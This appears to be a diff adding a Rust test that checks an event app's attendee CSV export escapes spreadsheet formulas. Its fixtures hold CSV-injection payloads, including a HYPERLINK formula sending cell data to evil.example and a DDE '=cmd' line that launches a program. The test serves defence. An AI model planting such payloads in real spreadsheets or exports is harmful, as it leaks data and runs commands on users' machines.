@@ -626,6 +626,76 @@ async fn attendees_are_listed_searched_filtered_and_exported_as_csv_for_excel() 
 }
 
 #[tokio::test]
+async fn the_csv_export_never_hands_a_spreadsheet_a_formula() {
+    use futures_util::StreamExt;
+
+    for t in test_support::backends().await {
+        let db = &t.db;
+        let backend = db.backend();
+        let now = tokyo(2026, 12, 1, 10, 0);
+        let organizer = member(db, "org@example.co.jp", None).await;
+        let id = manage::create(
+            db,
+            organizer,
+            &draft("Formulas", tokyo(2026, 12, 20, 18, 0), 10),
+            true,
+            now,
+        )
+        .await
+        .unwrap();
+        let people = [
+            (
+                "=cmd@example.co.jp",
+                r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#,
+                "@SUM(A1)",
+            ),
+            ("+a@example.co.jp", "+1+1", "-2+3"),
+            ("b@example.co.jp", "＝１＋１", "=cmd|' /C calc'!A0"),
+        ];
+        for (email, name, department) in people {
+            let person = users::upsert(
+                db,
+                &NewUser {
+                    email: email.into(),
+                    display_name: name.into(),
+                    department: Some(department.into()),
+                    role: Role::Employee,
+                    lang: Lang::Ja,
+                },
+                None,
+            )
+            .await
+            .unwrap();
+            registrations::register(db, id, person, now).await.unwrap();
+        }
+        let bytes: Vec<u8> = events::attendees::export_csv(db.clone(), id, Tokyo, Lang::En)
+            .map(|chunk| chunk.unwrap())
+            .collect::<Vec<_>>()
+            .await
+            .concat();
+        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
+        let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+        let mut cells = 0;
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                cells += 1;
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
+                    "{backend:?}: a formula reached the CSV: {cell:?}"
+                );
+            }
+        }
+        assert_eq!(cells, 3 * 8, "{backend:?}");
+        assert!(
+            text.contains("'=HYPERLINK("),
+            "{backend:?}: the text is kept, quoted"
+        );
+        assert!(text.contains("'=cmd@example.co.jp"), "{backend:?}");
+        assert!(text.contains("'-2+3"), "{backend:?}");
+    }
+}
+
+#[tokio::test]
 async fn the_admin_overview_counts_months_fill_and_attendance_by_department() {
     for t in test_support::backends().await {
         let db = &t.db;
